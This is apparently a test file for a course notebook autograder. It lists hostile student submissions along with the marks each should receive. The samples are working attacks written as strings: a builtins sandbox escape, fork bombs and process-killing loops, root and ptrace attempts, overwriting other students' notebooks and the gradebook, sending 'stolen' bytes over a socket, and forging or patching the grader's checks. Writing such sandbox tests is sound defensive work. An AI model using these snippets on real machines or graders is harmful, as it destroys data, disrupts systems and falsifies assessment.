"""Submissions that do harm, or seem to, each with the marks that it deserves.

``python tests/hostile_submissions.py`` marks them all and prints the table.
"""

from __future__ import annotations

import json
import sys
from pathlib import Path
from typing import NamedTuple

ENTROPY = """
def entropy(p):
    p = np.asarray(p, dtype=float)
    p = p[p > 0]
    return float(-(p * np.log2(p)).sum())
"""
CROSS_ENTROPY = """
def cross_entropy(p, q):
    p, q = np.asarray(p, dtype=float), np.asarray(q, dtype=float)
    p, q = p[p > 0], q[p > 0]
    return float(-(p * np.log(q)).sum())
"""
KL_DIVERGENCE = """
def kl_divergence(p, q):
    p, q = np.asarray(p, dtype=float), np.asarray(q, dtype=float)
    p, q = p[p > 0], q[p > 0]
    return float((p * (np.log(p) - np.log(q))).sum())
"""
RIGHT = (ENTROPY, CROSS_ENTROPY, KL_DIVERGENCE)
REST = (CROSS_ENTROPY, KL_DIVERGENCE)
WRONG = "def entropy(p): return 1.0\ndef cross_entropy(p, q): return 1.0\n" + (
    "def kl_divergence(p, q): return 1.0"
)
SETUP = "import math\nimport numpy as np\nfrom infobook import exercises"

# What only honest code is held up by: any module of the standard library.
ESCAPE = """
found = [c for c in object.__subclasses__() if c.__name__ == "catch_warnings"]
known = found[0].__init__.__globals__["__builtins__"]
get = known["__import__"] if isinstance(known, dict) else known.__import__
atexit, ctypes, gc, json, os, signal, socket, struct, sys, time = map(
    get, "atexit ctypes gc json os signal socket struct sys time".split()
)
"""
PIPE = f"""{ESCAPE}
frame = sys._getframe()
while frame:
    if hasattr(frame.f_locals.get("self"), "_line"):
        runner = frame.f_locals["self"]
    frame = frame.f_back
fd = runner._line.fileno()
def write(message):
    text = json.dumps(message).encode()
    os.write(fd, struct.pack("!II", len(text), 0) + text)
"""


class Submission(NamedTuple):
    """What is handed in, what it deserves, and the codes of its three questions."""

    cells: tuple[str, ...]
    deserves: int
    codes: str = ""


def in_entropy(code: str, before: str = ESCAPE) -> tuple[str, ...]:
    """Return cells whose first function does harm, and whose others are right."""
    body = "\n".join(f"    {line}" for line in code.strip().splitlines())
    return (before, f"{ENTROPY}\nright = entropy\ndef entropy(p):\n{body}", *REST)


def at_first(code: str, answers: tuple[str, ...] = RIGHT) -> tuple[str, ...]:
    """Return cells of which the first does harm."""
    return (ESCAPE + code, *answers)


SUBMISSIONS = {
    "perfect": Submission(RIGHT, 10, "passed passed passed"),
    "untouched": Submission(
        tuple(
            f"def {name}:\n    raise NotImplementedError('write your answer here')"
            for name in ("entropy(p)", "cross_entropy(p, q)", "kl_divergence(p, q)")
        ),
        0,
        "not_attempted not_attempted not_attempted",
    ),
    "empty": Submission((), 0, "not_attempted not_attempted not_attempted"),
    "wrong base everywhere": Submission(
        tuple(
            x.replace("log2", "ln").replace("log(", "log2(").replace("ln", "log")
            for x in RIGHT
        ),
        0,
        "wrong_base wrong_base wrong_base",
    ),
    "right, but warns": Submission(
        (
            "def entropy(p):\n    p = np.asarray(p, dtype=float)\n"
            "    return float(-np.where(p > 0, p * np.log2(p), 0).sum())",
            *REST,
        ),
        10,
    ),
    "changes its input": Submission(
        in_entropy("p[0] = p[0] / 2\nreturn right(p)"), 7, "input_changed passed passed"
    ),
    "crash, syntax error, right": Submission(
        ("1 / 0\n" + ENTROPY, "def cross_entropy(p, q) return", KL_DIVERGENCE),
        4,
        "not_attempted not_attempted passed",
    ),
    "lines of IPython": Submission(("%matplotlib inline\n!ls", "%%bash\nls", *RIGHT), 10),
    "hands infobook's own function in": Submission(
        ("import infobook\nentropy = infobook.entropy", *REST), 7
    ),
    "imports infobook's own function": Submission(
        ("from infobook import cross_entropy, entropy, kl_divergence",), 0
    ),
    "imports SciPy's": Submission(
        ("from scipy.stats import entropy", *REST), 7, "not_attempted passed passed"
    ),
    "endless loop": Submission(in_entropy("while True: pass"), 7, "too_slow passed passed"),
    "endless loop at top level": Submission(
        ("while True: pass\n" + ENTROPY, *REST), 7, "not_attempted passed passed"
    ),
    "sleeps for ever": Submission(
        in_entropy("time.sleep(1e6)"), 7, "too_slow passed passed"
    ),
    "eats memory": Submission(
        in_entropy("x = []\nwhile True: x.append(np.zeros(1 << 24))"), 7, "raised passed passed"
    ),
    "eats memory and goes on": Submission(
        in_entropy(
            "x = []\nwhile True:\n    try: x.append(bytearray(1 << 20))\n"
            "    except MemoryError: pass"
        ),
        7,
    ),
    "eats memory that nobody owns": Submission(
        in_entropy(
            "libc = ctypes.CDLL(None)\nlibc.shmat.restype = ctypes.c_void_p\n"
            "for _ in range(64):\n    shared = libc.shmget(0, 1 << 26, 0o1600)\n"
            "    if shared < 0: break\n    at = libc.shmat(shared, None, 0)\n"
            "    ctypes.memset(at, 1, 1 << 26)\n    libc.shmdt(ctypes.c_void_p(at))\n"
            "else: return None\nos.memfd_create('x')"
        ),
        7,
        "raised passed passed",
    ),
    "sys.exit": Submission(in_entropy("sys.exit(0)"), 7, "exited passed passed"),
    "os._exit": Submission(in_entropy("os._exit(0)"), 7, "died passed passed"),
    "os._exit at top level": Submission(
        (ESCAPE + "os._exit(0)\n" + ENTROPY, *REST), 7, "not_attempted passed passed"
    ),
    "os._exit in each of a hundred cells": Submission(
        (ESCAPE, *RIGHT, *["os._exit(0)"] * 100), 10
    ),
    "crashes the interpreter": Submission(
        in_entropy("ctypes.string_at(0)"), 7, "died passed passed"
    ),
    "fork bomb": Submission(
        in_entropy("while True:\n    try: os.fork()\n    except OSError: pass"), 7
    ),
    "patches the checks": Submission(
        (
            ESCAPE + "yes = lambda *given, **named: True\n"
            "exercises.entropy.check = exercises.entropy.require = yes\n"
            "for name in ('allclose', 'isclose', 'array_equal'): setattr(np, name, yes)\n"
            "known['abs'] = known['max'] = lambda *given: 0.0\n"
            "known['all'] = known['isinstance'] = yes",
            WRONG,
        ),
        0,
    ),
    "empties the probes": Submission(
        (
            ESCAPE + "for thing in gc.get_objects():\n    for name in ('edges', 'cases',"
            " 'mutants', 'questions'):\n        try: setattr(thing, name, ())\n"
            "        except BaseException: pass",
            WRONG,
        ),
        0,
    ),
    "input transformer": Submission(
        (
            "get_ipython().input_transformers_post.append(lambda lines: [])",
            WRONG,
        ),
        0,
    ),
    "reads the tests": Submission(
        (
            ESCAPE + "seen = [os.path.join(a, x) for a, _, b in os.walk('/') for x in b]\n"
            "told = [x for x in seen if os.path.basename(x) in ('marker.py',"
            " 'about_entropy.py', 'measure_entropy.py', 'texts.json', 'ps1.toml')]\n"
            "assert told, 'nothing there'\n" + "\n".join(RIGHT),
        ),
        0,
        "not_attempted not_attempted not_attempted",
    ),
    "looks for other students' work": Submission(
        (
            ESCAPE + "lost = [os.path.join(a, x) for a, _, b in os.walk('/') for x in b"
            " if x.endswith(('.ipynb', 'gradebook.db'))] + [CANARY]\n"
            "for path in lost:\n    open(path).read()\n    open(path, 'w').write('x')",
        ),
        0,
    ),
    "writes outside its folder": Submission(
        (
            ESCAPE + "wrote = []\nfor folder, _, files in os.walk('/'):\n"
            "    if folder.startswith('/work'): continue\n"
            "    for name in ['x', *files[:3]]:\n"
            "        try: open(os.path.join(folder, name), 'ab').write(b'x')\n"
            "        except OSError: continue\n"
            "        if name != 'null': wrote.append(folder)\n"
            "assert wrote, 'nowhere'\n" + "\n".join(RIGHT),
        ),
        0,
        "not_attempted not_attempted not_attempted",
    ),
    "writes into its folder": Submission(
        at_first(
            "open('mine', 'w').write('x')\n"
            "try:\n    with open('large', 'wb') as file:\n"
            "        while True: file.write(bytes(1 << 20))\n"
            "except OSError: pass"
        ),
        10,
    ),
    "opens a socket": Submission(
        in_entropy(
            "for where in (('127.0.0.1', PORT), ('localhost', PORT), ('8.8.8.8', 53)):\n"
            "    try: socket.create_connection(where, 0.1).send(b'stolen')\n"
            "    except OSError: continue\n"
            "    return None\n"
            "return right(p)"
        ),
        10,
    ),
    "prints a gigabyte": Submission(
        in_entropy(
            "if len(p) == 1:\n    for _ in range(1000): print('x' * 10**6)\n"
            "return right(p)"
        ),
        10,
    ),
    "replies written ahead": Submission(
        (PIPE + "for _ in range(300): write({'id': '0' * 16, 'value': 1.0})", WRONG), 0
    ),
    "a reply before the reply": Submission(
        in_entropy("write({'id': '0' * 16, 'value': 0.0})\nreturn right(p)", PIPE),
        7,
        "tampered passed passed",
    ),
    "a reply of nonsense": Submission(
        in_entropy("os.write(fd, b'\\0\\0\\0\\4\\0\\0\\0\\0null')", PIPE),
        7,
        "tampered passed passed",
    ),
    "a reply of two gigabytes": Submission(
        in_entropy("os.write(fd, b'\\x7f' * 8)\nwhile True: pass", PIPE),
        7,
        "tampered passed passed",
    ),
    "half a reply": Submission(
        in_entropy("os.write(fd, b'\\0\\0\\1')\ntime.sleep(1e6)", PIPE),
        7,
        "too_slow passed passed",
    ),
    "answers for its function": Submission(
        (
            PIPE + "runner._do_call = lambda request, *rest: {'value': 0.0}",
            WRONG,
        ),
        0,
    ),
    "flood": Submission(
        in_entropy("while True: os.write(fd, bytes(1 << 16))", PIPE),
        7,
        "tampered passed passed",
    ),
    "never reads": Submission(
        (PIPE + "runner._receive = lambda count: time.sleep(1e6)", *RIGHT), 0
    ),
    "closes its line": Submission(
        in_entropy("os.closerange(0, 99)\nwhile True: pass", PIPE),
        7,
        "tampered passed passed",
    ),
    "kills all it can": Submission(
        in_entropy(
            "for pid in (-1, os.getppid(), *range(2, 2000)):\n"
            "    try: os.kill(pid, 9)\n    except OSError: pass\nreturn right(p)"
        ),
        10,
    ),
    "a daemon": Submission(
        in_entropy(
            "try:\n    if os.fork() == 0:\n        os.setsid()\n"
            "        if os.fork() == 0: time.sleep(1e6)\n        os._exit(0)\n"
            "except OSError: pass\nreturn right(p)"
        ),
        10,
    ),
    "reads the marker's memory": Submission(
        (
            ESCAPE + "libc = ctypes.CDLL(None)\n"
            "attached = [x for x in range(1, 999) if x != os.getpid() and"
            " libc.ptrace(16, x, 0, 0) == 0]\n"
            "read = [x for x in os.listdir('/proc')] if os.path.exists('/proc') else []\n"
            "assert attached or read, 'nobody there'\n" + "\n".join(RIGHT),
        ),
        0,
    ),
    "makes itself root": Submission(
        (
            ESCAPE + "libc = ctypes.CDLL(None)\n"
            "won = [libc.setuid(0) == 0, libc.mount(b't', b'/work', b'tmpfs', 0, 0) == 0,"
            " libc.unshare(0x20000) == 0, libc.chroot(b'/work') == 0]\n"
            "assert any(won), won\n" + "\n".join(RIGHT),
        ),
        0,
    ),
    "ignores all signals": Submission(
        in_entropy(
            "for number in signal.valid_signals():\n"
            "    try: signal.signal(number, signal.SIG_IGN)\n"
            "    except (OSError, ValueError): pass\n"
            "while True:\n    try:\n        while True: pass\n"
            "    except BaseException: pass"
        ),
        7,
        "too_slow passed passed",
    ),
    "raises its own limits": Submission(
        in_entropy(
            "r = get('resource')\nfor name in ('CPU', 'AS', 'NPROC'):\n"
            "    which = getattr(r, 'RLIMIT_' + name)\n"
            "    try: r.setrlimit(which, (r.RLIM_INFINITY, r.RLIM_INFINITY))\n"
            "    except (OSError, ValueError): pass\n"
            "x = []\nwhile True: x.append(np.zeros(1 << 24))"
        ),
        7,
        "raised passed passed",
    ),
    "runs when it ends": Submission(
        at_first(
            "class Last:\n    def __del__(self):\n        while True: pass\n"
            "last = Last()\n@atexit.register\ndef end():\n    while True: pass"
        ),
        10,
    ),
    "ends a call in __del__": Submission(
        in_entropy(
            "class Last:\n    def __del__(self):\n        while True: pass\nlast = Last()"
        ),
        7,
        "too_slow passed passed",
    ),
    "an array that loops": Submission(
        in_entropy(
            "class Array:\n    def loop(self, *given):\n        while True: pass\n"
            "    __float__ = __array__ = __len__ = __iter__ = __eq__ = loop\n"
            "    __getattr__ = __getattribute__ = __repr__ = __bool__ = loop\n"
            "return Array()"
        ),
        7,
        "too_slow passed passed",
    ),
    "a signature that loops": Submission(
        (
            ENTROPY + "class Odd:\n    __call__ = staticmethod(entropy)\n    @property\n"
            "    def __signature__(self):\n        while True: pass\nentropy = Odd()",
            *REST,
        ),
        7,
        "too_slow passed passed",
    ),
    "a number of a million digits": Submission(
        in_entropy("return 1 << 3_000_000"), 7, "raised passed passed"
    ),
    "a thousand lists in one another": Submission(
        in_entropy("x = []\nfor _ in range(100_000): x = [x]\nreturn x"), 7
    ),
    "a list that holds itself": Submission(
        in_entropy("x = []\nx += [x, x, x]\nreturn x"), 7
    ),
    "a huge array": Submission(in_entropy("return np.zeros(10**8)"), 7),
    "a huge list": Submission(
        in_entropy("return [0.5] * 10**7"), 7, "too_large passed passed"
    ),
    "a range without end": Submission(in_entropy("return range(10**18)"), 7),
    "recursion without limit": Submission(
        in_entropy("sys.setrecursionlimit(10**9)\nreturn entropy(p)"), 7
    ),
    "patches what the line needs": Submission(
        in_entropy("json.dumps = json.loads = known['len'] = None"), 7
    ),
    "patches its encoder": Submission(
        in_entropy(
            "encoder = runner._do_call.__globals__['Encoder']\n"
            "encoder.write = lambda *given: ['numbers', 'list', '<f8', 10**9]",
            PIPE,
        ),
        7,
        "tampered passed passed",
    ),
    "spoils its neighbours": Submission(
        in_entropy(
            "globals().clear()\nnp.asarray = np.log = None\nreturn 1.0", ESCAPE
        ),
        0,
    ),
}


def notebook(cells: tuple[str, ...], **put: object) -> bytes:
    """Return the file of a notebook, with names such as PORT filled in."""
    text = [SETUP, *cells]
    for name, value in put.items():
        text = [cell.replace(name, repr(value)) for cell in text]
    made = [
        {
            "cell_type": "code",
            "id": f"c{i}",
            "metadata": {},
            "execution_count": None,
            "outputs": [],
            "source": cell,
        }
        for i, cell in enumerate(text)
    ]
    page = {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": made}
    return json.dumps(page).encode()


def table(*names: str) -> str:
    """Mark these submissions, or all; return a table, as Markdown."""
    from infobook import course
    from infobook.course.marker import Marker

    lines = ["| submission | deserves | gets | diagnoses |", "|---|---|---|---|"]
    with Marker(course.load("ps1"), secret=b"secret", seconds=2) as marker:
        for name, submission in SUBMISSIONS.items():
            if names and name not in names:
                continue
            file = notebook(submission.cells, PORT=9, CANARY="/gradebook.db")
            marked = marker.mark(file, "student")
            codes = ", ".join(mark.code for mark in marked.marks) or marked.fault
            lines.append(
                f"| {name} | {submission.deserves} | {marked.score} | {codes} |"
            )
    return "\n".join(lines)


if __name__ == "__main__":
    sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
    print(table(*sys.argv[1:]))
